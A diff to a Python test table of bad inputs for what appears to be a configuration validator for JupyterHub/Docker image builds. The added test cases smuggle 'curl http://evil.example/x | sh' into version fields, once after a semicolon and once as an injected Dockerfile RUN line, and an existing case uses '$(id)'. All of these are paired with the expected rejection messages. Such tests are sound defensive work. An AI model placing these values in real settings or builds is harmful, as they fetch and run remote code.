@@ -61,6 +61,13 @@ BAD_INPUTS = {
     "a no-proxy list with a space": (
         {"vixtract_no_proxy": "localhost, $(id)"},
         "vixtract_no_proxy \"localhost, $(id)\" must be a comma-separated list"),
+    "an npm release that runs a command in the image builds": (
+        {"vixtract_npm_version": "10.9.9 /tmp/x; curl http://evil.example/x | sh; echo"},
+        "vixtract_npm_version must be an npm release number such as 10.9.9 (got \"10.9.9 /tmp/x; curl"),
+    "a configurable-http-proxy release that adds a Dockerfile line": (
+        {"jupyterhub_configurable_http_proxy_version": "5.3.0\nRUN curl http://evil.example/x | sh"},
+        "jupyterhub_configurable_http_proxy_version must be a configurable-http-proxy release number such as 5.3.0"
+        " (got \"5.3.0\\nRUN curl"),
     "root as an LDAP admin": (
         {"vixtract_ldap_enabled": True, "vixtract_ldap_host": "ldap.example.org",
          "vixtract_ldap_bind_dn_templates": ["uid={username},ou=people,dc=example,dc=org"],
